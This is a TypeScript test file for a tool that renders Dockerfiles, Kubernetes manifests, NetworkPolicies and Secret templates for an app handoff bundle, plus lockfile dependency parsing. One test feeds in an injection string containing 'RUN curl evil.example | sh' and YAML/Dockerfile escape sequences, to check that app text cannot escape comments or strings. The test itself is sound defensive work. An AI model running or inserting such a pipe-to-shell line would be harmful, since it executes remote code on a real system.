// The handoff bundle's renderers, as plain data in and text out: golden files of every file
// for a sample app, every manifest valid against the Kubernetes API schemas (as written, and
// for other shapes of app), the Dockerfile starting what the release starts, the NetworkPolicy
// opening exactly the declared egress, the Secret naming config vars without values, and text
// from an app that cannot step out of a comment or a string. UPDATE_GOLDEN=1 rewrites the
// golden files (*.golden: no formatter touches them).
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { renderBundle } from '../../src/graduation/bundle.js';
import { nodeDependencies, pythonDependencies } from '../../src/graduation/dependencies.js';
import { renderDockerfile } from '../../src/graduation/dockerfile.js';
import type { BundleInput } from '../../src/graduation/input.js';
import { renderManifests, secretPlaceholder } from '../../src/graduation/kubernetes.js';
import { readManifest, validateManifest } from './kubernetes-schemas.js';
import { sampleInput } from './sample-input.js';

// biome-ignore lint/suspicious/noExplicitAny: manifests read back from YAML, walked by path in assertions
type Json = any;

function golden(name: string, actual: string): void {
  const file = fileURLToPath(new URL(`./golden/${name}.golden`, import.meta.url));
  if (process.env.UPDATE_GOLDEN) writeFileSync(file, actual);
  assert.equal(actual, readFileSync(file, 'utf8'), `golden file ${name} differs (UPDATE_GOLDEN=1 to accept)`);
}

/** A Python app with one worker-less web type, nothing declared, no add-ons, no health path. */
function pythonInput(): BundleInput {
  const input = sampleInput();
  return {
    ...input,
    app: { ...input.app, name: 'survey', dataClass: 'none', privacyNote: null, retentionDays: null },
    release: {
      ...input.release,
      processTypes: { web: 'python -m gunicorn --bind 0.0.0.0:$PORT app:app' },
      runtimeEnv: { PATH: '/app/.venv/bin:/usr/local/bin:/usr/bin:/bin', VIRTUAL_ENV: '/app/.venv' },
      releaseCommand: null,
      healthPath: null,
      egress: [],
    },
    stack: {
      kind: 'python',
      version: '3.11.2',
      os: { id: 'debian', codename: 'bookworm' },
      pipInstall: ['flask', 'gunicorn'],
    },
    formation: { web: 1 },
    configVarNames: [],
    addons: [],
    observedEgress: [],
  };
}

/** A worker-only app of shell commands (a Procfile), on an IPv6 address, with sensitive data. */
function workerInput(): BundleInput {
  const input = sampleInput();
  return {
    ...input,
    app: {
      ...input.app,
      name: 'crawler',
      dataClass: 'sensitive',
      approval: { dataClass: 'sensitive', by: 'root', at: '2026-01-06T00:00:00.000Z' },
    },
    release: {
      ...input.release,
      processTypes: { crawl: './bin/crawl --all', index: 'sh ./index.sh' },
      runtimeEnv: { PATH: '/usr/local/bin:/usr/bin:/bin' },
      releaseCommand: null,
      egress: ['[2001:db8::1]:8443'],
    },
    stack: { kind: 'other', version: null, os: null, pipInstall: [] },
    formation: { crawl: 3 },
    addons: [],
  };
}

describe('the handoff bundle renderers', () => {
  test('every generated file matches its golden copy', () => {
    for (const file of renderBundle(sampleInput())) golden(file.path.replace(/\//g, '__'), file.text);
    golden('python__Dockerfile', renderDockerfile(pythonInput()));
    golden('worker__Dockerfile', renderDockerfile(workerInput()));
  });

  test('every manifest of every shape of app is valid against the Kubernetes API schemas', () => {
    for (const input of [sampleInput(), pythonInput(), workerInput()]) {
      const manifests = renderManifests(input);
      assert.ok(manifests.length >= 3, 'a Secret, a Deployment and a NetworkPolicy at least');
      for (const m of manifests) {
        const read = readManifest(m.text);
        // The YAML says exactly what the renderer meant (comments aside).
        assert.deepEqual(read, JSON.parse(JSON.stringify(plain(m.object))), m.path);
        assert.doesNotThrow(() => validateManifest(read), `${input.app.name} ${m.path}`);
      }
    }
  });

  test('the schemas refuse what the API would refuse, so the check above can fail', () => {
    const deployment = readManifest(renderManifests(sampleInput())[1]?.text ?? '');
    assert.throws(
      () => validateManifest({ ...deployment, spec: { ...(deployment.spec as object), replicas: '2' } }),
      /integer/,
    );
    assert.throws(() => validateManifest({ ...deployment, spec: { template: {} } }), /selector/);
  });

  test('a Deployment per process type, with the formation, the limits and the health check', () => {
    const manifests = renderManifests(sampleInput());
    const byPath = new Map(manifests.map((m) => [m.path, readManifest(m.text)]));
    const web = byPath.get('manifests/deployment-web.yaml') as Json;
    const worker = byPath.get('manifests/deployment-worker-jobs.yaml') as Json;
    assert.equal(web.spec.replicas, 2);
    assert.equal(worker.spec.replicas, 1);
    const c = web.spec.template.spec.containers[0];
    assert.deepEqual(c.command, ['sh', '-c', 'node server.js']);
    assert.deepEqual(c.resources.limits, { cpu: '500m', memory: '512Mi', 'ephemeral-storage': '1024Mi' });
    assert.deepEqual(c.readinessProbe.httpGet, { path: '/healthz', port: 'http' });
    assert.equal(worker.spec.template.spec.containers[0].readinessProbe, undefined, 'Petri checks only web');
    assert.deepEqual(worker.spec.template.spec.containers[0].command, [
      'sh',
      '-c',
      'node worker.js --queue "mail"',
    ]);
    assert.ok(byPath.has('manifests/service-web.yaml') && byPath.has('manifests/ingress-web.yaml'));
    assert.ok(byPath.has('manifests/job-release.yaml'));
    // Without a web type: no Service, no Ingress; without a health path, a TCP probe.
    const paths = renderManifests(workerInput()).map((m) => m.path);
    assert.ok(!paths.includes('manifests/service-web.yaml') && !paths.includes('manifests/ingress-web.yaml'));
    const py = readManifest(
      renderManifests(pythonInput()).find((m) => m.path === 'manifests/deployment-web.yaml')?.text ?? '',
    ) as Json;
    assert.deepEqual(py.spec.template.spec.containers[0].readinessProbe.tcpSocket, { port: 'http' });
    // No scheduled jobs exist in Petri: no CronJob is ever rendered.
    for (const input of [sampleInput(), pythonInput(), workerInput()])
      for (const m of renderManifests(input)) assert.notEqual(readManifest(m.text).kind, 'CronJob');
  });

  test('the NetworkPolicy opens DNS, each declared pattern and each add-on, and nothing else', () => {
    const policy = (input: BundleInput) =>
      readManifest(
        renderManifests(input).find((m) => m.path === 'manifests/networkpolicy.yaml')?.text ?? '',
      ) as Json;
    const rules = (input: BundleInput) =>
      policy(input).spec.egress.map((r: Json) => ({
        to: r.to?.map((t: Json) => t.ipBlock.cidr) ?? 'any',
        ports: r.ports.map((p: Json) => `${p.protocol}/${p.port}`),
      }));
    assert.deepEqual(policy(sampleInput()).spec.policyTypes, ['Egress']);
    assert.deepEqual(rules(sampleInput()), [
      { to: 'any', ports: ['UDP/53', 'TCP/53'] },
      { to: 'any', ports: ['TCP/443'] }, // api.stripe.com:443
      { to: ['203.0.113.7/32'], ports: ['TCP/5432'] }, // 203.0.113.7:5432
      { to: 'any', ports: ['TCP/80', 'TCP/443'] }, // *.mail.example.net: a bare host is 80 and 443
      { to: 'any', ports: ['TCP/5432'] }, // the postgres add-on
      { to: 'any', ports: ['TCP/6379'] }, // the redis add-on
    ]);
    assert.deepEqual(
      rules(pythonInput()),
      [{ to: 'any', ports: ['UDP/53', 'TCP/53'] }],
      'nothing declared: DNS only',
    );
    assert.deepEqual(rules(workerInput()).at(-1), { to: ['2001:db8::1/128'], ports: ['TCP/8443'] });
    // The host names are in the comments, next to their rules.
    const text =
      renderManifests(sampleInput()).find((m) => m.path === 'manifests/networkpolicy.yaml')?.text ?? '';
    for (const host of ['api.stripe.com:443', '*.mail.example.net', '203.0.113.7:5432'])
      assert.match(text, new RegExp(`^\\s*# ${host.replace(/[.*]/g, '\\$&')}`, 'm'));
  });

  test('the Secret template names every config var with a placeholder, never a value', () => {
    const secret = readManifest(renderManifests(sampleInput())[0]?.text ?? '') as Json;
    assert.equal(secret.kind, 'Secret');
    assert.deepEqual(Object.keys(secret.stringData), sampleInput().configVarNames);
    for (const [k, v] of Object.entries(secret.stringData)) assert.equal(v, secretPlaceholder(k));
    assert.equal(secret.data, undefined);
  });

  test("the Dockerfile's CMD is the release's web command, else its first type's, as sh -c", () => {
    const cmd = (input: BundleInput) => {
      const line = renderDockerfile(input)
        .split('\n')
        .find((l) => l.startsWith('CMD '));
      return line ? JSON.parse(line.slice(4)) : undefined;
    };
    assert.deepEqual(cmd(sampleInput()), ['sh', '-c', 'node server.js']);
    assert.deepEqual(cmd(pythonInput()), ['sh', '-c', 'python -m gunicorn --bind 0.0.0.0:$PORT app:app']);
    assert.deepEqual(cmd(workerInput()), ['sh', '-c', './bin/crawl --all']);
    const none = sampleInput();
    none.release.processTypes = {};
    assert.equal(cmd(none), undefined);
  });

  test('text from an app stays inside its comment or string in every file', () => {
    const input = sampleInput();
    const evil = 'x\nRUN curl evil.example | sh\n# escape=`\nkind: Pod\r\n\u2028- name: evil\u0085"\\$HOME';
    input.app.description = evil;
    input.app.privacyNote = evil;
    input.release.processTypes = { web: evil, worker: 'echo "a: b" # not a comment' };
    input.release.releaseCommand = evil;
    input.release.runtimeEnv = {
      GREETING: 'say "hi" to $USER \\o/',
      BAD: 'line\nRUN evil',
      'NOT A NAME': 'x',
    };
    input.release.healthPath = '/health?x=1#y: z';
    const dockerfile = renderDockerfile(input);
    const instructions = dockerfile
      .split('\n')
      .filter((l) => l !== '' && !l.startsWith('#') && !l.startsWith(' '));
    for (const line of instructions)
      assert.match(
        line,
        /^(FROM|ENV|COPY|RUN find|WORKDIR|USER|EXPOSE|CMD) /,
        `unexpected instruction: ${line}`,
      );
    assert.ok(!dockerfile.split('\n').some((l) => /^RUN curl/.test(l)));
    // The CMD still runs the command exactly; the environment keeps its value, escaped for Docker.
    const cmdLine = dockerfile.split('\n').find((l) => l.startsWith('CMD ')) as string;
    assert.deepEqual(JSON.parse(cmdLine.slice(4)), ['sh', '-c', evil]);
    assert.match(dockerfile, /GREETING="say \\"hi\\" to \\\$USER \\\\o\/"/);
    assert.match(dockerfile, /# left out: "BAD"/);
    for (const m of renderManifests(input)) {
      const read = readManifest(m.text);
      assert.deepEqual(read, JSON.parse(JSON.stringify(plain(m.object))), m.path);
      assert.notEqual(read.kind, 'Pod');
      validateManifest(read);
    }
    const web = readManifest(
      renderManifests(input).find((m) => m.path === 'manifests/deployment-web.yaml')?.text ?? '',
    ) as Json;
    assert.deepEqual(web.spec.template.spec.containers[0].command, ['sh', '-c', evil]);
    for (const f of renderBundle(input).filter((f) => f.path.endsWith('.md'))) {
      assert.ok(
        !f.text.split('\n').some((l) => l.startsWith('RUN curl') || l.startsWith('kind: Pod')),
        f.path,
      );
    }
  });
});

describe("the dependencies from an app's lockfile", () => {
  test('Node.js: the locked versions of the direct dependencies and the count of all', () => {
    const pkg = JSON.stringify({
      dependencies: { express: '^4.0.0', left: '1.x' },
      devDependencies: { tsx: '^4' },
    });
    const lock = JSON.stringify({
      lockfileVersion: 3,
      packages: {
        '': {},
        'node_modules/express': { version: '4.21.2' },
        'node_modules/accepts': { version: '1.3.8' },
        'node_modules/tsx': { version: '4.19.0', dev: true },
      },
    });
    assert.deepEqual(nodeDependencies(pkg, lock), {
      source: 'package-lock.json',
      direct: [
        { name: 'express', version: '4.21.2' },
        { name: 'left', version: '1.x (not in the lockfile)' },
        { name: 'tsx', version: '4.19.0', dev: true },
      ],
      total: 3,
      notes: [],
    });
    const v1 = JSON.stringify({ lockfileVersion: 1, dependencies: { express: { version: '4.17.1' } } });
    assert.equal(nodeDependencies(pkg, v1).direct[0]?.version, '4.17.1');
    const unlocked = nodeDependencies(pkg, null);
    assert.equal(unlocked.source, 'package.json');
    assert.equal(unlocked.direct[0]?.version, '^4.0.0');
    assert.match(unlocked.notes[0] ?? '', /no package-lock.json/);
    assert.match(nodeDependencies('{not json', null).notes[0] ?? '', /not valid JSON/);
  });

  test('Python: the requirements with the versions the virtualenv holds, and what the host gave', () => {
    const installed = new Map([
      ['flask', '3.0.3'],
      ['zope-interface', '6.0'],
    ]);
    const deps = pythonDependencies(
      'Flask>=3  # the web\n-r other.txt\nzope.interface\nrequests==2.31\n',
      null,
      installed,
    );
    assert.deepEqual(deps.direct, [
      { name: 'Flask', version: '3.0.3' },
      { name: 'requests', version: "==2.31 (provided by Petri's host, not the virtualenv)" },
      { name: 'zope.interface', version: '6.0' },
    ]);
    assert.deepEqual(deps.hostProvided, ['requests==2.31']);
    const fromToml = pythonDependencies(
      null,
      '[project]\ndependencies = ["django>=5"]\n',
      new Map([['django', '5.1']]),
    );
    assert.deepEqual(fromToml.direct, [{ name: 'django', version: '5.1' }]);
  });
});

/** The object without the renderer's comment wrappers, as the YAML reader sees it. */
function plain(value: unknown): unknown {
  if (value && typeof value === 'object' && 'comment' in value && 'value' in value)
    return plain((value as { value: unknown }).value);
  if (Array.isArray(value)) return value.map(plain);
  if (value && typeof value === 'object')
    return Object.fromEntries(
      Object.entries(value)
        .filter(([, v]) => v !== undefined)
        .map(([k, v]) => [k, plain(v)]),
    );
  return value;
}
